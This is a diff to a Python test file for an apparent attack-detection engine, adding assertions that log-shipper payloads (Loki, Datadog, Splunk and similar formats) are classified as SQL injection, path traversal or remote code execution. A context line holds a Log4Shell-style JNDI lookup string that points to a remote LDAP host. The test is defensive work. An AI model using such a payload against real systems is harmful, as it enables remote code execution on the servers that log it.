@@ -595,6 +595,8 @@ def test_a_log_shippers_records_are_what_happened(engine: Engine) -> None:
     assert types(loki("user=${jndi:ldap://198.51.100.7/a}"), "/loki/api/v1/push") == {"rce"}
     assert types(loki(lines[2]), "/api/push") >= {"sqli", "ptrav"}  # no Loki's path
     assert types([{"message": lines[2]}], "/api/v2/logs") == {"sqli"}  # no Datadog's record
+    assert types({"ddsource": "x", "message": lines[2]}, "/api/items") == {"sqli"}  # no intake
+    assert types({"version": "1.1", "short_message": lines[2]}) == {"sqli"}
     assert types({"event": lines[2]}, "/services/collector/admin") == {"sqli"}
     assert sent("/_bulk?note=" + quote(lines[2]), bulk("ok") + "\n") == {"sqli"}
     product = json.dumps({"index": {}}) + "\n" + json.dumps({"title": lines[2]}) + "\n"
